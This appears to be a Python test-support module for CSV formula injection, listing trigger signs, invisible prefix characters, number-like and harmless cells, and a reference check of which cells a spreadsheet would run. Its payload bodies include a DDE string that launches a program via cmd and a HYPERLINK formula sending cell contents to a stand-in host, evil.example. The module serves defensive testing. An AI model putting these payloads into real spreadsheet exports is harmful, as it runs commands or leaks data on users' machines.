"""Cells that a spreadsheet may run, cells that it may not, and how spreadsheets divide a file."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from itertools import product

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")

UNSEEN = {
    "nothing": "",
    "blank": " ",
    "blanks": "   ",
    "tab": "\t",
    "return": "\r",
    "line feed": "\n",
    "line end": "\r\n",
    "vertical tab": "\v",
    "form feed": "\f",
    "escape": "\x1b",
    "null": "\x00",
    "delete": "\x7f",
    "next line": "\x85",
    "no-break blank": "\xa0",
    "soft hyphen": "\xad",
    "narrow no-break blank": "\u202f",
    "ideographic blank": "\u3000",
    "thin blank": "\u2009",
    "zero-width blank": "\u200b",
    "zero-width joiner": "\u200d",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "right to left": "\u202e",
    "line separator": "\u2028",
    "braille blank": "\u2800",
    "hangul filler": "\u3164",
    "variation selector": "\ufe0f",
    "tag": "\U000e0041",
    "double quote": '"',
    "two double quotes": '""',
    "a mixture": ' \t\u200b"\xa0',
}

BODIES = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1)', "SUM(A1)*cmd")

FORMULAS = tuple(f"{before}{sign}{body}" for before, sign, body in product(UNSEEN.values(), SIGNS, BODIES))

INNER = tuple(
    f"harmless{separator}{blank}{sign}1+1"
    for separator, blank, sign in product((";", "\n", "\r", "\r\n", '";', ";;"), ("", " ", "\u200b"), ("=", "+", "@"))
)
"""Formulas that begin in the middle of a text, where another program may begin a cell."""

NUMBERS = (
    "0", "-5", "+3.2", "1e-5", "-1e-5", "-1.5E+10", "-.5", "-5.", "+,5", "-1,234.5", "-1.234,5", "-12%", "-12 %", " -5",
    "-5 ", "\xa0-5", "-0", "+49301234", "1,234.5",
)  # fmt: skip

HARMLESS = (
    "", "a", "a=b", "a-b", "Ada", "x@y.example", "1=1", "'=1+1", "'-", "a, =1+1", "2024-05-01", "p = 0.3", "(=1+1)",
    "#REF!", "%", "ß", "漢字", "a b", "·=", "\\=1",
)  # fmt: skip


def runs(cell: str) -> bool:
    """Tell whether a careless spreadsheet runs a cell; thought out anew, so that it can judge the rule."""
    for place, letter in enumerate(cell):
        if letter == '"' or letter in "\u2800\u3164\ufe0f" or unicodedata.category(letter)[0] in "CZ":
            continue
        if unicodedata.normalize("NFKC", letter) not in ("=", "+", "-", "@"):
            return False
        try:
            float(re.sub(r"(?<=[0-9]),|%$", "", cell[place:].strip()).replace(",", "."))
        except ValueError:
            return True
        return False
    return False


def divided(text: str) -> Iterator[str]:
    """Yield the cells of a file as spreadsheets with a comma, and those with a semicolon, divide it."""
    for line in csv.reader(io.StringIO(text, newline="")):
        yield from line
    for line in re.split("[\r\n]", text):
        yield from line.split(";")
